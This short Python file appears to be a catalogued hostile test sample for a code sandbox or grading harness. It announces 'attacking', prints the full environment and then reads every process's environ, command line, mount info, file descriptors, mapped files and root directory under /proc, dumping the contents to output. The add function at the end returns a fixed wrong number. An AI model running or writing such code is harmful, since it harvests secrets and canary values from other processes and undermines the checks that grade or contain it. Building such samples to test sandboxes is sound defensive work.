# Read the environment, the arguments, the memory and the descriptors of every process.
# catalogue: H17, H18
# shows: canary
import glob
import os

print("attacking", flush=True)
print(dict(os.environ))
patterns = ("environ", "cmdline", "mountinfo", "task/*/environ", "fd/*", "map_files/*", "root/*")
for pattern in patterns:
    for path in glob.glob(f"/proc/[0-9]*/{pattern}"):
        try:
            with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                print(path, file.read(20_000).decode(errors="replace"))
        except OSError:
            pass


def add(a, b):
    return -12345
